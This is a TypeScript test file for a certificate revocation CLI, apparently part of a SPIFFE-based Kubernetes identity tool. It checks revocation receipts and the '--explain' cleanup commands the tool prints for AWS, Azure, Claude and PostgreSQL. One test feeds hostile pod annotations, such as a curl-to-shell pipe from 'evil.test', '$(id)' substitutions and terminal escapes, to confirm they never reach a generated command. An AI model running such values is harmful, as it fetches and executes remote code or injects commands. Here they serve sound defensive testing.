// What the receipt of a revocation knows of certificates on the lists, and what it says of things that no
// revocation here reaches.

import assert from 'node:assert/strict';
import { afterEach, beforeEach, test } from 'node:test';
import { noRevocations } from '../../../src/authorities/revocation-document.ts';
import { revokeCommand } from '../../../src/cli/revoke.ts';
import type { Receipt } from '../../../src/cli/revoke-receipt.ts';
import { parseTrustDomain } from '../../../src/spiffe/spiffe-id.ts';
import { ClusterHarness, PATHS } from './cluster-harness.ts';

let cluster: ClusterHarness;
beforeEach(async () => {
  cluster = await ClusterHarness.start();
  cluster.decideBy('--trust-domain=a.test');
  cluster.set(PATHS.namespaces, { metadata: { name: 'shop' } });
  cluster.set(PATHS.nodes, { metadata: { name: 'n1' } });
  cluster.policy('sa', {
    spiffeIDTemplate: 'spiffe://a.test/{{ .PodSpec.ServiceAccountName }}',
    federatesWith: ['partner.test'],
  });
});
afterEach(async () => await cluster.stop());

function pod(annotations: object, volumeAttributes?: object): void {
  const volumes = volumeAttributes && [{ csi: { driver: 'csi.spiffe.io', volumeAttributes } }];
  cluster.set(PATHS.pods, {
    metadata: { name: 'agent', namespace: 'shop', uid: 'uid-agent', annotations },
    spec: { nodeName: 'n1', serviceAccountName: 'agent', containers: [], volumes },
  });
}

/** What controller and issuers say once the restriction is there. */
function answer(status: object, revoked?: readonly object[]): void {
  const write = cluster.api.set.bind(cluster.api);
  cluster.api.set = (collection, object, options) => {
    if (collection !== PATHS.restrictions) return write(collection, object, options);
    const conditions = [{ type: 'InEffect', status: 'True' }];
    const by = [(object['metadata'] as { name: string }).name];
    if (revoked !== undefined) {
      const document = {
        ...noRevocations(parseTrustDomain('a.test')),
        revoked: revoked.map((each) => ({ revokedAt: 1, held: false, by, ...each })),
      };
      write(PATHS.configMaps, {
        metadata: { name: 'signet-revocations', namespace: 'signet' },
        data: { 'document.json': JSON.stringify(document) },
      });
    }
    return write(collection, { ...object, status: { conditions, ...status } }, options);
  };
}

const run = async (...args: readonly string[]) =>
  (await cluster.run(revokeCommand, 'sa/agent', ...args)).out;
const receipt = async (...args: readonly string[]) =>
  JSON.parse(await run('-o', 'json', ...args)) as Receipt;

test('the receipt names the serials that the issuers put on the lists for it, and no others', async () => {
  pod({});
  answer({}, [
    { serial: '0a', notAfter: 1_900_000_000 },
    { serial: '0b', notAfter: 1_900_000_060 },
    { serial: '0c', notAfter: 1_900_000_120, by: ['another'] },
  ]);
  const { revoked } = await receipt();
  assert.deepEqual(revoked, {
    count: 2,
    serials: ['0b', '0a'],
    lastNotAfter: '2030-03-17T17:47:40Z',
  });
  assert.match(
    await run(),
    /\nOn the revocation lists, .* 2030-03-17T17:47:40Z: 2\n {2}0b\n {2}0a\n?/,
  );
});

test('who may not read the lists hears what the status says; of a text, not more than fifty', async () => {
  pod({});
  const serials = Array.from({ length: 60 }, (_, at) => (at + 16).toString(16));
  answer({ revoked: { count: 70, serials, lastNotAfter: '2030-01-01T00:00:00Z' } });
  cluster.forbid('/api/v1/namespaces/signet/configmaps/signet-revocations');
  const said = await run();
  assert.match(said, /: 70\n(?: {2}[0-9a-f]{2}\n){50} {2}and 20 more/);
});

test('without an answer in time the receipt says that nothing is on the lists yet', async () => {
  pod({});
  answer({ revoked: { count: 0, serials: [] } });
  assert.match(await run(), /\nNo certificate is on the revocation lists for it yet\.$/);
});

test('--explain with a target: what it may hold, until when, and what ends it', async () => {
  const given = {
    'signet.dev/for': 'claude, aws,postgres',
    'claude.signet.dev/federation-rule-id': 'fdrl_7',
    'aws.signet.dev/role-arn': 'arn:aws:iam::1:role/path/agent',
  };
  const attributes = { 'signet.dev/files': 'true', 'signet.dev/jwt-audience': 'reports' };
  pod(given, attributes);
  answer({}, [{ serial: '10', notAfter: 1_900_000_000 }]);
  const made = await receipt('--explain');
  const rows = new Map(made.elsewhere?.map((each) => [each.what, each]));
  const jwtEnd = Date.parse(made.jwtEndsAtLatest);
  const claude = rows.get('Claude API access token');
  assert.equal(Date.parse(claude?.until.split(',')[0] ?? ''), jwtEnd + 86_400_000);
  assert.match(claude?.end ?? '', /archive federation rule fdrl_7$/);
  const aws = rows.get('AWS session');
  assert.equal(Date.parse(aws?.until.split(',')[0] ?? ''), jwtEnd + 12 * 3_600_000);
  assert.match(aws?.end ?? '', /--role-name agent /);
  assert.ok(aws?.end.includes(`"aws:TokenIssueTime":"${made.jwtEndsAtLatest}"`));
  assert.match(rows.get('open PostgreSQL sessions')?.end ?? '', /client_serial in \(16\)$/);
  assert.match(rows.get('whatever was given for tokens for reports')?.end ?? '', /reports$/);
  assert.ok(rows.has('open TLS connections'));
  assert.match(rows.get('whatever trust domain partner.test gave')?.until ?? '', /do not go there/);
  assert.match(rows.get('what any other audience gave: no policy limits them')?.end ?? '', /audit/);
  assert.equal(rows.size, 7);
  const text = await run('--explain');
  assert.match(
    text,
    /\n {2}shop\/agent: AWS session\n {4}until .*\n {4}end it: aws iam put-role-policy/,
  );
});

test('--explain: no annotation of the pod gets into a command, or reaches the terminal, as it likes', async () => {
  const hostile = [
    'x;curl evil.test|sh',
    '$(id)',
    '`id`',
    'a b',
    "a'",
    '--profile=evil',
    'a\nid',
    'a\u001b[2K',
    'a'.repeat(65),
    '',
  ];
  for (const text of hostile) {
    pod({
      'signet.dev/for': 'claude,aws,azure',
      'claude.signet.dev/federation-rule-id': text,
      'aws.signet.dev/role-arn': `arn:aws:iam::1:role/${text}`,
      'azure.signet.dev/client-id': text,
    });
    const rows = new Map(
      (await receipt('--explain', '--dry-run')).elsewhere?.map((row) => [row.what, row.end]),
    );
    const end = (what: string) => rows.get(what) ?? assert.fail(what);
    assert.match(end('AWS session'), /^aws iam put-role-policy --role-name ROLE --policy-name /);
    assert.equal(
      end('Entra access token'),
      'az ad sp update --id (see azure.signet.dev/client-id) --set accountEnabled=false',
    );
    assert.match(end('Claude API access token'), / rule \(see claude\.signet\.dev\/\S+\)$/);
  }
  pod({}, { 'signet.dev/files': 'true', 'signet.dev/jwt-audience': 'x\u001b[2Ky' });
  assert.match(
    await run('--explain', '--dry-run'),
    /: whatever was given for tokens for x\?\[2Ky\n/,
  );
});

test('--explain: names of the form that the consumers give are taken over', async () => {
  const id = '01234567-89ab-cdef-0123-456789ABCDEF';
  pod({
    'signet.dev/for': 'aws,azure',
    'aws.signet.dev/role-arn': 'arn:aws:iam::1:role/a+=,.@-_9',
    'azure.signet.dev/client-id': id,
  });
  const said = await run('--explain', '--dry-run');
  assert.ok(said.includes(' --role-name a+=,.@-_9 '));
  assert.ok(said.includes(`az ad sp update --id ${id} --set`));
});

test('--explain: audiences that a restriction does not allow, or no tokens at all, are no matter', async () => {
  pod({ 'signet.dev/for': 'claude,aws' });
  answer({}, []);
  const limit = (name: string, spec: object) =>
    cluster.set(PATHS.restrictions, {
      metadata: { name },
      spec: { match: { namespace: 'shop' }, ...spec },
    });
  limit('audiences', { allowedAudiences: ['sts.amazonaws.com'] });
  const held = async () =>
    (await receipt('--explain', '--dry-run')).elsewhere?.map(({ what }) => what);
  const others = ['open TLS connections', 'whatever trust domain partner.test gave'];
  assert.deepEqual(await held(), ['AWS session', ...others]);
  limit('tokens', { jwt: 'Deny' });
  assert.deepEqual(await held(), others);
});
